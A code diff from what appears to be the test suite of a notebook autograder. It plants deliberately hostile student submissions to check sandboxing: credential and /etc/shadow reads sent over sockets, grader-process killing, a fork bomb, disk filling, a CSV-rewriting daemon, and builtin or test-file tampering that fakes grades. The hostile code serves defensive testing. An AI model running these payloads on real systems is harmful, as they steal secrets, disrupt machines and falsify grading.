@@ -60,7 +60,7 @@ def forward(wrong: dict[str, tuple[str, str]], nb: nbformat.NotebookNode) -> nbf
     return nb
 
 
-def plant_02_gradient(solution: Path, student: Path, folder: Path, dropbox: Path) -> dict:
+def plant_02_gradient(solution: Path, student: Path, folder: Path) -> dict:
     """Write the planted 02_gradient submissions into folder; return {file: expected}.
 
     expected: dict with the per-question points (q1, q2, q3), and status.
@@ -199,39 +199,16 @@ def plant_02_gradient(solution: Path, student: Path, folder: Path, dropbox: Path
         "for _p, _text in _saved.items():\n    with open(_p, 'w') as f:\n        f.write(_text)"
     )
     swapped = insert_cell(all_wrong, first_answer_cell(all_wrong), swap)
+    # (otter runs every test once, after the last cell: the swap has no effect at all)
     plants["cheat_swap_and_restore_tests"] = (
         insert_cell(swapped, len(swapped.cells), restore),
-        {**zero, "status": "error"},
+        {**zero, "status": "ok"},
     )
 
-    # Reads what it can outside its folder and reports it through a file the test provides
-    # (which is itself a write outside the folder: containerless grading cannot stop either).
-    probe = (
-        "import json, os\n"
-        "\n"
-        "seen = {\n"
-        '    "env_secret": os.environ.get("GRADING_TEST_SECRET"),\n'
-        '    "home": os.path.expanduser("~"),\n'
-        '    "cwd": os.getcwd(),\n'
-        '    "siblings": sorted(os.listdir("..")),\n'
-        '    "parent_siblings": sorted(os.listdir("../..")),\n'
-        "}\n"
-        "try:\n"
-        f'    seen["secret_file"] = open({str(dropbox.parent / "secret.txt")!r}).read()\n'
-        "except OSError as e:\n"
-        '    seen["secret_file"] = repr(e)\n'
-        "try:\n"
-        "    big = np.ones(2**30)  # 8 GiB\n"
-        '    seen["memory"] = "allocated"\n'
-        "    del big\n"
-        "except MemoryError:\n"
-        '    seen["memory"] = "MemoryError"\n'
-        f"with open({str(dropbox)!r}, 'w') as f:\n"
-        "    json.dump(seen, f)"
-    )
-    plants["cheat_read_outside"] = (
-        insert_cell(all_wrong, first_answer_cell(all_wrong), probe),
-        {**zero, "status": "ok"},
+    # An 8 GiB allocation among right answers: MemoryError in that cell, the rest graded.
+    plants["huge_allocation"] = (
+        insert_cell(sol, first_answer_cell(sol), "big = np.ones(2**30)  # 8 GiB"),
+        {**full, "status": "ok"},
     )
 
     # Forging otter's own results from inside the kernel: the documented limit.
@@ -351,3 +328,205 @@ def plant_wrong_answers(name: str, solution: Path, folder: Path) -> dict:
 
 def otter_metadata(path: Path) -> dict:
     return json.loads(path.read_text())["metadata"].get("otter", {})
+
+
+def plant_hostile_02_gradient(solution: Path, folder: Path, targets: dict) -> dict:
+    """Hostile and tricky-but-honest 02_gradient submissions; return {file: expected}.
+
+    targets: absolute paths and values the hostile code aims at (it knows them, as a student
+    who guessed them would): home_secret, repo_secret (files), secret (the text), port (a
+    listener on 127.0.0.1), out, submissions, scratch (folders), marker (argv of a daemon).
+    Each hostile notebook starts from wrong answers: any point it gets is a point stolen.
+    expected values: per-question points and status; status None means "ok or error".
+    """
+    sol = load(solution)
+    full = {"q1": 2, "q2": 3, "q3": 3}
+    zero = dict.fromkeys(full, 0)
+    wrong = {
+        "q1_forward": (
+            "return (f(x + h) - f(x - h)) / (2 * h)",
+            "return (f(x + h) - f(x)) / h",
+        ),
+        "q2_not_restored": (
+            "grad[idx] = (fxh1 - fxh2) / (2 * h)\n        x[idx] = tmp\n",
+            "grad[idx] = (fxh1 - fxh2) / (2 * h)\n",
+        ),
+        "q3_lr_plus_grad": ("x -= lr * grad", "x -= lr + grad"),
+    }
+    all_wrong = forward(wrong, sol)
+    t = {k: str(v) for k, v in targets.items()}
+    plants: dict[str, tuple[nbformat.NotebookNode, dict]] = {}
+
+    def hostile(name: str, source: str, expected: dict, at_end: bool = False) -> None:
+        index = len(all_wrong.cells) if at_end else first_answer_cell(all_wrong)
+        plants[name] = (insert_cell(all_wrong, index, source), expected)
+
+    # Reaches out every way it can think of, and shows what it got everywhere it can (printed,
+    # raised in a cell error, in its public test output, saved to files):
+    # - reads secrets: in your HOME, next to the repository, /etc/shadow, other processes'
+    #   environments and command lines;
+    # - connects: to the test's listener on 127.0.0.1, to the outside world;
+    # - writes: into OUT (a new file, the CSV, another student's log), into SUBMISSIONS (deletes
+    #   one, edits one), into the other submissions' scratch folders.
+    hostile(
+        "hostile_reach_out",
+        "import glob, os, socket, urllib.request\n"
+        "found = []\n"
+        f"for path in [{t['home_secret']!r}, {t['repo_secret']!r}, '/etc/shadow',\n"
+        "             os.path.expanduser('~/.ssh/id_rsa'), '/root/.bash_history',\n"
+        "             *glob.glob('/proc/*/environ'), *glob.glob('/proc/*/cmdline')]:\n"
+        "    try:\n"
+        "        found.append(open(path, errors='replace').read())\n"
+        "    except OSError as e:\n"
+        "        print('denied', path, e)\n"
+        "found.append(repr(dict(os.environ)))\n"
+        "loot = '\\n'.join(found)\n"
+        "print(loot)\n"
+        "open('loot.txt', 'w').write(loot)\n"
+        "for target in [('127.0.0.1', " + t["port"] + "), ('pypi.org', 443)]:\n"
+        "    try:\n"
+        "        socket.create_connection(target, timeout=3).sendall(loot.encode())\n"
+        "        print('connected', target)\n"
+        "    except OSError as e:\n"
+        "        print('no connection', target, e)\n"
+        "try:\n"
+        f"    urllib.request.urlopen('http://127.0.0.1:{t['port']}/', timeout=3)\n"
+        "except OSError as e:\n"
+        "    print('no http', e)\n"
+        f"out, subs, scratch = {t['out']!r}, {t['submissions']!r}, {t['scratch']!r}\n"
+        "attempts = [\n"
+        "    lambda: open(os.path.join(out, 'pwned.txt'), 'w').write(loot),\n"
+        "    lambda: open(os.path.join(out, 'grades.csv'), 'w').write('pwned'),\n"
+        "    lambda: open(os.path.join(out, 'logs', 'solution.log'), 'w').write('pwned'),\n"
+        "    lambda: os.remove(os.path.join(subs, 'solution.ipynb')),\n"
+        "    lambda: open(os.path.join(subs, 'q3_lr_plus_grad.ipynb'), 'a').write('pwned'),\n"
+        "    *[lambda d=d: open(os.path.join(d, 'pwned.txt'), 'w').write('pwned')\n"
+        "      for d in glob.glob(os.path.join(scratch, '*')) + [scratch]],\n"
+        "]\n"
+        "for attempt in attempts:\n"
+        "    try:\n"
+        "        attempt()\n"
+        "        print('wrote')\n"
+        "    except OSError as e:\n"
+        "        print('refused', e)\n"
+        "def numerical_diff(f, x):  # the public test's error message shows it\n"
+        "    raise RuntimeError(loot[-3000:])\n"
+        "raise RuntimeError(loot[-2000:])",
+        {**zero, "status": "ok"},
+        at_end=True,
+    )
+    # Signals: its parent, its parent's group, and any process that looks like the grader.
+    hostile(
+        "hostile_signals",
+        "import os, signal\n"
+        "for pid in os.listdir('/proc'):\n"
+        "    try:\n"
+        "        cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
+        "    except OSError:\n"
+        "        continue\n"
+        "    if b'pytest' in cmd or b'exercises.tools.grade' in cmd or b'bwrap' in cmd:\n"
+        "        for kill in (os.kill, os.killpg):\n"
+        "            try:\n"
+        "                kill(int(pid), signal.SIGKILL)\n"
+        "            except OSError as e:\n"
+        "                print('refused', pid, e)\n"
+        "os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)\n"
+        "os.kill(os.getppid(), signal.SIGKILL)",
+        {**zero, "status": "error"},
+    )
+    # A fork bomb (capped at 3000 children, in case the limits fail on a shared machine).
+    hostile(
+        "hostile_fork_bomb",
+        "import os, time\n"
+        "children = 0\n"
+        "while children < 3000:\n"
+        "    try:\n"
+        "        pid = os.fork()\n"
+        "    except OSError:\n"
+        "        continue  # forks without end\n"
+        "    if pid == 0:\n"
+        "        time.sleep(120)\n"
+        "        os._exit(0)\n"
+        "    children += 1",
+        {**zero, "status": "error"},
+    )
+    # Fills /tmp, its HOME and its working folder (16 MB files, under the file-size limit).
+    hostile(
+        "hostile_fill_disk",
+        "import os\n"
+        "for folder in ['/tmp', os.path.expanduser('~'), '.']:\n"
+        "    try:\n"
+        "        for i in range(200):\n"
+        "            with open(os.path.join(folder, f'fill{i}'), 'wb') as f:\n"
+        "                f.write(b'x' * 2**24)\n"
+        "    except OSError as e:\n"
+        "        print('full', folder, e)",
+        {**zero, "status": None},
+    )
+    # A daemon (double fork + setsid) that outlives the notebook and tries to rewrite the CSV.
+    hostile(
+        "hostile_daemon",
+        "import os, time\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    if os.fork() == 0:\n"
+        "        if os.fork() == 0:\n"
+        f"            os.execv('/bin/sleep', {t['marker'].split()!r})\n"
+        "        time.sleep(15)\n"
+        f"        open(os.path.join({t['out']!r}, 'grades.csv'), 'w').write('pwned')\n"
+        "    os._exit(0)",
+        {**zero, "status": "ok"},
+    )
+    # Builtins patched three ways: the hidden tests still see the real ones.
+    hostile(
+        "cheat_builtins_abs",
+        "import builtins\nbuiltins.abs = lambda x: 0.0\nbuiltins.all = lambda x: True",
+        {**zero, "status": "ok"},
+    )
+    hostile(
+        "cheat_import_hook",
+        "import builtins, types\n"
+        "_fake = types.ModuleType('builtins')\n"
+        "_fake.__dict__.update(vars(builtins))\n"
+        "_fake.abs = lambda x: 0.0\n"
+        "_fake.all = lambda x: True\n"
+        "_real_import = builtins.__import__\n"
+        "def _hook(name, *args, **kwargs):\n"
+        "    return _fake if name == 'builtins' else _real_import(name, *args, **kwargs)\n"
+        "builtins.__import__ = _hook",
+        {**zero, "status": "ok"},
+    )
+    hostile(
+        "cheat_replace_builtins_module",
+        "import builtins, sys, types\n"
+        "_fake = types.ModuleType('builtins')\n"
+        "_fake.__dict__.update(vars(builtins))\n"
+        "_fake.abs = lambda x: 0.0\n"
+        "_fake.all = lambda x: True\n"
+        "sys.modules['builtins'] = _fake",
+        {**zero, "status": "ok"},
+    )
+    # Test files re-weighted: same cases, all points on the public one, all_or_nothing off.
+    hostile(
+        "cheat_reweighted_tests",
+        "import glob, re\n"
+        "for path in glob.glob('tests/*.py'):\n"
+        "    text = open(path).read()\n"
+        "    text = text.replace(\"'all_or_nothing': True\", \"'all_or_nothing': False\")\n"
+        "    text = re.sub(r\"'hidden': True,\", \"'hidden': True, 'points': 0,\", text)\n"
+        "    open(path, 'w').write(text)",
+        {**zero, "status": "ok"},
+    )
+
+    # Honest but unusual, all in one notebook: no otter metadata at all, a syntax error in an
+    # extra cell, a mid-notebook chdir.
+    odd = insert_cell(sol, first_answer_cell(sol) + 2, "import os\nos.chdir('/tmp')")
+    odd = insert_cell(odd, first_answer_cell(odd), "def broken(:\n    pass")
+    odd.metadata.pop("otter", None)
+    plants["honest_oddities"] = (odd, {**full, "status": "ok"})
+
+    expected = {}
+    for name, (nb, exp) in plants.items():
+        write(nb, folder / f"{name}.ipynb")
+        expected[f"{name}.ipynb"] = exp
+    return expected
